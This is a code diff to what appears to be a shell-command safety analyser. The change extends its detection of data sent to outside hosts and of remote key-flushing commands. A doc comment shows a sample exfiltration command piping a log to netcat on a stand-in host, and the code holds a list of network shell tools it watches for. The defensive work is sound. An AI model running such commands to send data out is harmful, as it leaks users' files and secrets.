@@ -5,12 +5,13 @@ import { raiseWords } from '../../code.js'
 import { readOtherQuery } from '../../sql/other-queries.js'
 import { readPossibleSql } from '../../sql/read-sql.js'
 import { elsewhere as runsThere } from '../../world/known-world.js'
-import { type Call, type ShellContext, hasOption, isOpen, operandsOf, placeOfHost, quoted } from '../call.js'
+import { type Call, type ShellContext, hasOption, isOpen, operandsOf, quoted } from '../call.js'
 import { ownThingOf, thingNames } from '../own-things.js'
 import { noteTableActs } from './act-table.js'
 import { noteModes } from './doors.js'
 import { raiseIrreversible } from './irreversible.js'
 import { onlyLooks } from './looks.js'
+import { noteSent } from './sent.js'
 
 const GRANT_COMMANDS = new Set(
   'useradd adduser usermod groupadd addgroup groupmod gpasswd visudo chsh vipw'.split(' '),
@@ -100,14 +101,14 @@ export function noteShellActs(call: Call, context: ShellContext): void {
 /** Records that what a command is fed goes to a host that is not of the organisation: `cat a.log | nc paste.example.net 9999`. */
 function noteFedSocket(call: Call, context: ShellContext): void {
   if (!SOCKETS.has(call.name) || (!call.piped && call.fed === undefined)) return
-  const [host = ''] = operandsOf(call).flatMap((word) =>
-    call.name === 'socat' ? (OF_SOCAT.exec(word)?.[1] ?? []) : word,
-  )
-  if (host === '' || hasOption(call, 'l', '--listen') || placeOfHost(host, context) !== 'outside') return
-  raiseIrreversible('send', 'what a command is fed goes to another host', context.effects)
-  actsOn(context.effects, 'send', { kind: 'host', byName: true, names: [host, ...wordsIn(host)] })
+  const isTls = call.name === 'openssl'
+  if ((isTls && call.args[0] !== 's_client') || (!isTls && hasOption(call, 'l', '--listen'))) return
+  const [host = ''] = isTls
+    ? [(call.args[call.args.indexOf('-connect') + 1] ?? '').split(':')[0]]
+    : operandsOf(call).flatMap((word) => (call.name === 'socat' ? (OF_SOCAT.exec(word)?.[1] ?? []) : word))
+  noteSent(host, context)
 }
-const SOCKETS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'socat'])
+const SOCKETS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl'])
 /** The host of an address of `socat`: `TCP:paste.example.net:9999`. */
 const OF_SOCAT = /^(?:tcp|tcp4|tcp6|udp|udp4|openssl|ssl)(?:-connect)?:([\w.-]{1,253}):/i
 
@@ -135,7 +136,12 @@ function noteKeysTaken(call: Call, { effects, whole }: ShellContext): void {
   const fed = keys.length > 0 ? [] : namesOfFed(whole)
   const port = call.args[call.args.indexOf('-p') + 1] ?? ''
   const isAll = /^(?:flush|shutdown|debug)/i.test(words[at] ?? '')
-  const all = ['everything', 'flush', 'flushall', 'flushdb', 'entire', 'shutdown', 'server', port]
+  const where = call.args.findIndex((arg) => arg === '-h' || arg === '-u')
+  const place = where < 0 ? '' : (call.args[where + 1] ?? '').replace(/^\w{1,16}:\/\/(?:[^@/]{0,128}@)?/, '')
+  const host = /^(?:localhost|127\.)/.test(place)
+    ? []
+    : [place, ...wordsIn(place)].filter((word) => word !== '')
+  const all = ['everything', 'flush', 'flushall', 'flushdb', 'entire', 'shutdown', 'server', port, ...host]
   actsOn(effects, 'delete', {
     kind: 'record',
     names: isAll
